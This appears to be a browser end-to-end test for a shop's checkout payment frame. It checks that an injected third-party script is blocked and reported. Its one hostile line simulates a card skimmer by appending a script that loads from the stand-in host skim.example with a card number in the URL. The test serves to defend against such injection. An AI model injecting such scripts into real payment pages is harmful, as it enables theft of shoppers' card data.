// Somebody's script in the frame with the card fields, on a shop's page and in a
// browser that blocks cookies of third parties: kept out and reported as well.
import { ask, journey, step } from './kit.mjs';
import { see, english as words } from './pages.mjs';

journey(async (browser, { shop, folder }) => {
  const page = await browser.openBlockingThirdParties(folder);
  const ours = page.frameLocator('iframe[title="Payment"]');
  await page.goto(`${shop}/thanks`);
  await page.evaluate((to) => fetch(to), `${shop}/new/one?redirect=`);
  await page.goto(`${shop}/order/one?as=frame`);
  await ours.getByRole('checkbox', { name: words.consent }).check();
  await ours.getByRole('button', { name: words.proceed }).click();
  await see(ours.frameLocator(`iframe[title="${words.frame}"]`).getByLabel(words.number));

  step('a script from elsewhere');
  await ours.locator('main').evaluate((main) => {
    const script = document.createElement('script');
    script.src = 'https://skim.example/x.js?card=4111';
    main.append(script);
  });
  await ask('reported');
}, { tolerate: [/skim\.example/] });
